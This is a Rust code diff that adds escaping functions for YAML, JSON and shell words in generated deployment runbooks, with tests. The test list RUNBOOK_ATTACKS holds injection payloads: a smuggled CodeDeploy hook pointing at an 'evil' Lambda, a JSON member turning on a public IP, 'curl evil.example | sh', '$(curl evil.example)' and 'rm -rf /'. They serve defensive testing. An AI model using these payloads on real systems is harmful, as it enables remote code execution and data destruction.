@@ -130,6 +130,89 @@ pub fn unguard_spreadsheet_cell(cell: &str) -> &str {
     cell.strip_prefix('\'').unwrap_or(cell)
 }
 
+/// The bidirectional formatting characters: embeddings, overrides, isolates and marks. Unseen, they
+/// reorder the text around them (`\u{202e}` shows `exe.txt` as `txt.exe`).
+const BIDI_CONTROLS: [char; 12] = [
+    '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}',
+    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
+];
+
+/// Characters that act without being seen: the C0 and C1 controls (NUL, ESC, CR, BEL, CSI …), the
+/// bidirectional formatting characters, and the Unicode line and paragraph separators.
+pub fn is_hidden_control(c: char) -> bool {
+    c.is_control() || BIDI_CONTROLS.contains(&c) || matches!(c, '\u{2028}' | '\u{2029}')
+}
+
+/// Writes `c` as `\uXXXX`: the form JSON, YAML and JavaScript read and a reader recognises.
+fn push_u_escape(out: &mut String, c: char) {
+    use std::fmt::Write;
+    let _ = write!(out, "\\u{:04x}", c as u32);
+}
+
+// Lands in: the CodeDeploy AppSpec of a runbook (YAML).
+/// A YAML double-quoted scalar: `"` and `\` are escaped, and so is every character that could end the
+/// line or hide (controls, bidirectional formatting, NEL and the Unicode separators, the byte-order mark
+/// and the non-characters), so that a value can neither start a new key nor a comment, and shows what it
+/// holds.
+pub fn yaml_string(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 2);
+    out.push('"');
+    for c in text.chars() {
+        match c {
+            '"' | '\\' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c if is_hidden_control(c) || matches!(c, '\u{feff}' | '\u{fffe}' | '\u{ffff}') => {
+                push_u_escape(&mut out, c)
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+// Lands in: the JSON arguments of a runbook's commands (`--network-configuration`, `--load-balancers`).
+/// A JSON string literal: `"` and `\` are escaped, and every control, bidirectional formatting character
+/// and line separator is written as `\uXXXX`, so the literal is valid JSON, one line, and shows what it
+/// holds. Infallible, unlike a serialiser.
+pub fn json_string(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 2);
+    out.push('"');
+    for c in text.chars() {
+        match c {
+            '"' | '\\' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c if is_hidden_control(c) => push_u_escape(&mut out, c),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+// Lands in: a runbook's commands (POSIX shell).
+/// One shell word: text of letters, digits and `_./:=,@%+-` stands as it is (unless it starts with `-`,
+/// which a reader could take for an option), anything else is single-quoted, with each `'` written `'\''`.
+/// Single quotes keep every character literal, so no value can become a second command; but they keep a
+/// carriage return or a bidirectional override too, which would make the command read differently from
+/// what it runs: callers refuse such values before (see `analysis::remediation`).
+pub fn shell_word(text: &str) -> String {
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_./:=,@%+-".contains(c))
+        && !text.starts_with('-');
+    if plain {
+        text.to_string()
+    } else {
+        format!("'{}'", text.replace('\'', "'\\''"))
+    }
+}
+
 /// Text for a terminal line, in double quotes: control characters (escape sequences, newlines) and
 /// invisible formatting (bidirectional overrides) are written as Rust escapes (`\u{1b}`, `\n`, `\u{202e}`),
 /// so the text can neither move the cursor nor forge another line, and the quotes show where it ends.
@@ -140,6 +223,80 @@ pub fn terminal_quoted(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Real attacks on the runbook's languages: a new YAML key (a CodeDeploy hook), a new shell command,
+    /// a new JSON member, each hidden behind a line break, a quote or a bidirectional override.
+    const RUNBOOK_ATTACKS: &[&str] = &[
+        "x\rHooks:\n  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil",
+        "x\nHooks: [evil]",
+        "x\u{85}Hooks: [evil]",
+        "x\u{2028}Hooks: [evil]",
+        "x\" # comment\nHooks: evil",
+        "x\\\" , \"assignPublicIp\": \"ENABLED",
+        "x'; curl evil.example | sh; echo '",
+        "$(curl evil.example)`id`",
+        "\u{202e}lave\u{1b}[2J\u{0}",
+        "\u{feff}\u{ffff}",
+        "",
+    ];
+
+    #[test]
+    fn yaml_strings_stay_one_scalar_on_one_line() {
+        assert_eq!(yaml_string("payments"), "\"payments\"");
+        assert_eq!(
+            yaml_string(RUNBOOK_ATTACKS[0]),
+            "\"x\\u000dHooks:\\u000a  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil\""
+        );
+        for attack in RUNBOOK_ATTACKS {
+            let y = yaml_string(attack);
+            assert!(
+                !y.chars().any(|c| is_hidden_control(c) || c == '\u{feff}'),
+                "{y:?}"
+            );
+            // Inside the quotes, every `"` is escaped and every backslash starts an escape: the scalar
+            // ends at the last character and nowhere before.
+            let inner = &y[1..y.len() - 1];
+            let mut chars = inner.chars();
+            while let Some(c) = chars.next() {
+                assert_ne!(c, '"', "{y:?}");
+                if c == '\\' {
+                    assert!(matches!(chars.next(), Some('"' | '\\' | 'u')), "{y:?}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn json_strings_read_back_as_the_text() {
+        for attack in RUNBOOK_ATTACKS {
+            let j = json_string(attack);
+            assert!(!j.chars().any(is_hidden_control), "{j:?}");
+            let back: String = serde_json::from_str(&j).expect("valid JSON");
+            assert_eq!(&back, attack);
+        }
+    }
+
+    #[test]
+    fn shell_words_stay_one_word() {
+        assert_eq!(shell_word("payments"), "payments");
+        assert_eq!(shell_word("a b"), "'a b'");
+        assert_eq!(shell_word("x'; rm -rf / #"), "'x'\\''; rm -rf / #'");
+        assert_eq!(shell_word("$(curl evil)"), "'$(curl evil)'");
+        assert_eq!(shell_word("--force"), "'--force'");
+        assert_eq!(shell_word(""), "''");
+        // Braces, brackets and angle brackets mean something to bash: always quoted.
+        assert_eq!(shell_word("a={b,c}"), "'a={b,c}'");
+        assert_eq!(shell_word("<x>"), "'<x>'");
+        // What sh makes of the word is the text, whole.
+        for attack in RUNBOOK_ATTACKS.iter().filter(|a| !a.contains('\0')) {
+            let o = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf '%s' {}", shell_word(attack)))
+                .output()
+                .expect("sh runs");
+            assert_eq!(String::from_utf8_lossy(&o.stdout), *attack);
+        }
+    }
 
     #[test]
     fn terminal_text_cannot_forge_a_line_or_steer_the_terminal() {
